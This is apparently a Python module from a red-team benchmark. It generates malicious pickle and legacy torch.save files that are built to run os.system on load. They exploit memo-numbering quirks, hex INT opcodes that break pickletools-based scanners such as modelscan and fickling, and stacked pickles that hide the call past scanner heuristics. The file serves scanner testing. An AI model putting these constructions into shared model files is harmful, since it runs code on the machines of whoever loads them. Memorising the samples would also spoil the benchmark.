"""Memo numbering and stacked pickles, as CPython numbers and loads them.

_pickle.c's MEMOIZE stores at `memo_len`, the number of filled slots (pickle.py:
`len(self.memo)` of a dict), not at the end of the memo table: after a PUT to a
high index, MEMOIZE overwrites a low one. torch.load on a legacy (non-zip) file
calls `pickle_module.load` five times on the same stream; each of those pickles
is a full pickle, with or without PROTO.
"""

from __future__ import annotations

import pickle

from benchmarks.redteam.pickles import (MEMOIZE, POP, PROTO2, PROTO4, STACK_GLOBAL, STOP, binget, binput,
                                        s, system_call)
from benchmarks.redteam.sample import PROC_CMD, Sample

F = "memo-stack"
MAGIC = 0x1950A86A20F9469CFC6C


def memoize_after_sparse_put() -> bytes:
    """Walker-with-a-list sees collections.OrderedDict; CPython resolves os.system."""
    body = (
        s("collections") + binput(1)        # memo {1: collections}, memo_len 1
        + s("os") + MEMOIZE + POP            # CPython: memo[1] = os   (a list-walker: memo[2])
        + s("OrderedDict") + binput(3) + POP  # {1: os, 3: OrderedDict}
        + s("junk") + binput(0) + POP        # memo_len 3
        + s("system") + MEMOIZE + POP        # CPython: memo[3] = system
        + POP                                # drop collections
        + binget(1) + binget(3) + STACK_GLOBAL
        + b"(" + s(PROC_CMD) + b"tR"
    )
    return PROTO4 + body + STOP


def memoize_then_hex_int() -> bytes:
    """The memo trick, then an INT spelled in hex after the call: pickletools.genops (modelscan's and
    fickling's reader) raises on it, so the engines that would have resolved os.system see nothing."""
    return memoize_after_sparse_put()[:-1] + POP + b"I0x1f\n" + POP + b"N" + STOP


def legacy_torch(second: bytes, rest: bytes = b"") -> bytes:
    """torch.save's legacy layout: magic, protocol, sys info, object, storage keys."""
    magic = pickle.dumps(MAGIC, protocol=2)
    return magic + second + rest


SAMPLES = [
    Sample("memoize_after_sparse_put", F, "pickle.load", "process",
           "MEMOIZE after PUT 1 and PUT 3 writes slot 1 and 3 in CPython, slots 2 and 4 in a list-memo walker: "
           "the walker resolves collections.OrderedDict, the loader os.system", lambda: {"model.pkl": memoize_after_sparse_put()},
           fast=True),
    Sample("memoize_then_hex_int", F, "pickle.load", "process",
           "the memo trick with a hex INT after the call: the walker resolves an allowlisted import, and "
           "pickletools-based engines (modelscan, fickling) fail on the INT",
           lambda: {"model.pkl": memoize_then_hex_int()}),
    Sample("torch_legacy_second_pickle_no_proto", F, "torch.load", "process",
           "torch.load reads a legacy file as five stacked pickles; the second one (the protocol version) has no "
           "PROTO and starts with a binary opcode, so a scanner deciding 'is there another pickle?' by its first bytes stops",
           lambda: {"model.pt": legacy_torch(system_call() + b".")}, fast=True),
    Sample("torch_legacy_second_pickle_long_text", F, "torch.load", "process",
           "the second legacy pickle is protocol 0 and longer than a 4 KiB look-ahead before its STOP",
           lambda: {"model.pt": legacy_torch(b"V" + b"A" * 8192 + b"\n0cos\nsystem\n(S'" + PROC_CMD.encode() + b"'\ntR.")}),
    Sample("torch_legacy_third_pickle", F, "torch.load", "process",
           "the malicious call is in the sys-info pickle (third), after a well-formed protocol pickle",
           lambda: {"model.pt": legacy_torch(pickle.dumps(1001, protocol=2), system_call() + b".")}),
    Sample("pickle_after_benign_pickle_protocol2", F, "torch.load", "process",
           "baseline: a benign first pickle would not load in torch; the magic must be first, the call second "
           "(with PROTO 2, the easy case)", lambda: {"model.pt": legacy_torch(PROTO2 + system_call() + b".")}),
]
